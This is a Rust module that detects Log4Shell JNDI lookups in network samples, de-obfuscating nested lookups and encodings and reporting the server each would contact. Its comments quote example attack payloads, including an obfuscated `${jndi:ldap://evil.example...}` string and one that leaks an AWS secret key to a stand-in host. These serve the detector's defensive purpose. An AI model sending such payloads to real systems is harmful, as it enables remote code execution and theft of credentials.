//! Log4j lookups in what a JVM was sent: finds the `${jndi:…}` lookups in the first bytes a
//! JVM received on an accepted socket, through the obfuscations used against CVE-2021-44228
//! and CVE-2021-45046, and names the server each would have contacted. No I/O.
//!
//! Log4j 2.0–2.14 resolved `${…}` lookups in every message it logged, with `StrSubstitutor`
//! and `Interpolator` ([source, 2.14.1]): lookups nest, the name is resolved before it is
//! looked up, `:-` gives a default, and a value is itself resolved again. So attackers spell
//! `jndi:` out of other lookups — `${${lower:J}ndi:…}`, `${${::-j}ndi:…}`,
//! `${${env:NOPE:-j}ndi:…}`, `${${date:'j'}ndi:…}`. [`deobfuscate`] replays that algorithm for
//! the lookups whose value needs nothing from the target host; [`find_jndi`] runs it over each
//! part of an HTTP request (or over the whole sample for other protocols), as sent and after
//! undoing URL, `\u` and HTML-entity encoding, which an application may undo before it logs.
//!
//! Everything here is attacker-controlled: nesting depth and work are bounded (Log4j itself
//! had none: CVE-2021-45105), nothing panics, and every string in a [`JndiFinding`] is
//! escaped for a log line.
//!
//! [source, 2.14.1]: https://github.com/apache/logging-log4j2/blob/rel/2.14.1/log4j-core/src/main/java/org/apache/logging/log4j/core/lookup/StrSubstitutor.java

mod decode;
mod http;
mod substitute;

#[cfg(test)]
mod tests;

use decode::{views, View};
use http::{head_parts, parts, Part};
use substitute::{restore, JndiName, Substitutor, Techniques, TopLevel, OPAQUE_DOLLAR};

/// A JNDI lookup Log4j would have made while logging part of a sample.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct JndiFinding {
    /// The lookup as it appeared in the sample, still encoded and obfuscated (at most
    /// [`MAX_RAW_CHARS`] characters, then `...`; escaped for a log line). A lookup cut by the
    /// end of the sample is resolved as if it were closed there, and lacks its closing `}`.
    pub raw: String,
    /// The de-obfuscated lookup, e.g. `${jndi:ldap://evil.example:1389/a}`, with `jndi` and the
    /// scheme lower-cased; for a `limit-exceeded` finding, the lookup as far as it was
    /// resolved (at most [`MAX_FIELD_CHARS`] characters; escaped).
    pub normalized: String,
    /// The JNDI URL scheme, lower-cased: `ldap`, `ldaps`, `rmi`, `dns`, `iiop`, `corba`, `nds`,
    /// `nis`, `http`, ...; empty when the name has none, or for a lookup too deep or too costly
    /// to resolve (see `limit-exceeded` in [`JndiFinding::obfuscations`]).
    pub scheme: String,
    /// What follows `scheme://` (or `scheme:`), e.g. `evil.example:1389/a`; the whole name when
    /// there is no scheme. A lookup Log4j would have filled in from the target host stays as
    /// written, e.g. `evil.example/${env:AWS_SECRET_ACCESS_KEY}` (at most [`MAX_FIELD_CHARS`]
    /// characters; escaped).
    pub target: String,
    /// The obfuscation techniques seen, in a fixed order: `url-encoding`,
    /// `double-url-encoding`, `unicode-escape`, `html-entity`, `mixed-case`, `nested`,
    /// `default-value`, `limit-exceeded`, then the name of each other lookup that was used:
    /// `lower`, `upper`, `date`, `env`, `sys`, `main`, `bundle`, `ctx`, `map`, `sd`, `marker`,
    /// `java`, `jvmrunargs`, `k8s`, `docker`, `spring`, `web`, `log4j`, `event`.
    pub obfuscations: Vec<&'static str>,
    /// Where it was found: `request-line`, `header:<name as sent>`, `body`, or `data` when
    /// the sample is not an HTTP/1 request.
    pub location: String,
}

/// Characters of [`JndiFinding::raw`] kept, at most.
pub const MAX_RAW_CHARS: usize = 200;
/// Characters of [`JndiFinding::normalized`] and [`JndiFinding::target`] kept, at most.
pub const MAX_FIELD_CHARS: usize = 512;
/// Characters of a header name kept in [`JndiFinding::location`], at most.
const MAX_HEADER_NAME_CHARS: usize = 64;
/// Findings returned for one sample, at most.
pub const MAX_FINDINGS: usize = 32;
/// Lookups resolved inside one another, at most; a deeper one is left as written. Published
/// payloads nest four deep; a 1 KiB sample could nest some 170.
pub const MAX_DEPTH: usize = 32;
/// Bytes one substitution may scan and produce, in all: enough for any 1 KiB sample many
/// times over, and what keeps a crafted one from costing more than a few milliseconds.
pub const WORK_BUDGET: usize = 1 << 20;
/// Rounds of URL, `\u` and HTML-entity decoding tried, at most.
const MAX_DECODE_ROUNDS: usize = 3;

/// Finds every JNDI lookup Log4j 2.0–2.14 would have made had it logged a part of `sample`
/// (the request line, a header line, the body; or all of it when `sample` is not HTTP/1),
/// as sent or URL-, `\u`- or HTML-entity-decoded. One finding per location and lookup, in
/// the order found, at most [`MAX_FINDINGS`].
///
/// Two departures from Log4j, both towards reporting: an unclosed `${` is skipped where
/// Log4j would stop resolving the rest of the text, and a lookup nested deeper than
/// [`MAX_DEPTH`] or costing more than [`WORK_BUDGET`] is reported with the
/// `limit-exceeded` technique and no scheme, since no benign request carries one.
pub fn find_jndi(sample: &[u8]) -> Vec<JndiFinding> {
    find_in_parts(parts(sample))
}

/// [`find_jndi`] for a window that starts inside an HTTP request head rather than at its
/// request line: the line the window starts in is located as `headers`, the lines after it
/// by their header names.
pub fn find_jndi_in_head(window: &[u8]) -> Vec<JndiFinding> {
    find_in_parts(head_parts(window))
}

fn find_in_parts(parts: Vec<Part<'_>>) -> Vec<JndiFinding> {
    let mut findings = Vec::new();
    for part in parts {
        for view in views(part.bytes) {
            find_in_view(&part, &view, &mut findings);
        }
    }
    findings
}

/// Adds the lookups Log4j would make logging `view` of `part` to `findings`.
fn find_in_view(part: &Part<'_>, view: &View, findings: &mut Vec<JndiFinding>) {
    let mut substitutor = Substitutor::new(true);
    let mut regions = Vec::new();
    let mut top = TopLevel {
        regions: &mut regions,
        open_end: part.open_end,
    };
    substitutor.substitute(&view.text, 0, Techniques::NONE, Some(&mut top));
    for region in &regions {
        let from = view.to_part.get(region.text.start).copied().unwrap_or(0);
        let to = view.to_part.get(region.text.end).copied().unwrap_or(from);
        let raw = part.bytes.get(from..to).unwrap_or_default();
        let raw = escape(&String::from_utf8_lossy(raw), MAX_RAW_CHARS);
        let lookups = substitutor
            .lookups
            .get(region.lookups.clone())
            .unwrap_or_default();
        for lookup in lookups {
            let name = JndiName::parse(&lookup.name);
            push_unique(
                findings,
                JndiFinding {
                    raw: raw.clone(),
                    normalized: escape(&name.normalized(), MAX_FIELD_CHARS),
                    scheme: name.scheme,
                    target: escape(name.target, MAX_FIELD_CHARS),
                    obfuscations: lookup.techniques.union(view.techniques).names(),
                    location: part.location.clone(),
                },
            );
        }
        if lookups.is_empty() && region.limited {
            let techniques = view
                .techniques
                .union(Techniques::NESTED)
                .union(Techniques::LIMIT_EXCEEDED);
            push_unique(
                findings,
                JndiFinding {
                    raw,
                    normalized: escape(&region.value, MAX_FIELD_CHARS),
                    scheme: String::new(),
                    target: String::new(),
                    obfuscations: techniques.names(),
                    location: part.location.clone(),
                },
            );
        }
    }
}

/// Resolves the lookups in `expr` as Log4j 2.0–2.14's `StrSubstitutor` would, for the
/// building blocks attackers use: `lower`, `upper`, `date` with a quoted-literal pattern,
/// and the `:-` default of every other lookup. The rest — `env`, `sys`, `java`, `ctx`,
/// `${hostName}`, any unknown lookup — are taken as unset (the environment is never read),
/// so their default applies, or they stay as written when they have none. A `jndi` lookup
/// is never made: it stays in place with `jndi` and its scheme lower-cased, e.g.
/// `${${::-j}ndi:${lower:R}mi://x/o}` gives `${jndi:rmi://x/o}`.
///
/// Nesting deeper than [`MAX_DEPTH`] and work beyond [`WORK_BUDGET`] are left as written.
/// The noncharacter U+FDD0, used internally, reads as U+FFFD.
pub fn deobfuscate(expr: &str) -> String {
    let expr = expr.replace(OPAQUE_DOLLAR, "\u{fffd}");
    let mut substitutor = Substitutor::new(false);
    let (resolved, _) = substitutor.substitute(&expr, 0, Techniques::NONE, None);
    restore(&resolved)
}

fn push_unique(findings: &mut Vec<JndiFinding>, finding: JndiFinding) {
    let seen = findings
        .iter()
        .any(|f| f.location == finding.location && f.normalized == finding.normalized);
    if !seen && findings.len() < MAX_FINDINGS {
        findings.push(finding);
    }
}

/// `text`, safe to put in a log line, at most `max_chars` of its characters (then `...`):
/// printable ASCII and letters or digits of any script stay as they are; backslashes,
/// control, format (e.g. bidirectional overrides) and other characters become Rust-style
/// escapes.
fn escape(text: &str, max_chars: usize) -> String {
    let mut out = String::with_capacity(text.len().min(max_chars + 3));
    for (count, c) in text.chars().enumerate() {
        if count == max_chars {
            out.push_str("...");
            break;
        }
        match c {
            '\\' => out.push_str("\\\\"),
            ' '..='~' => out.push(c),
            c if c.is_alphanumeric() => out.push(c),
            c => out.extend(c.escape_unicode()),
        }
    }
    out
}
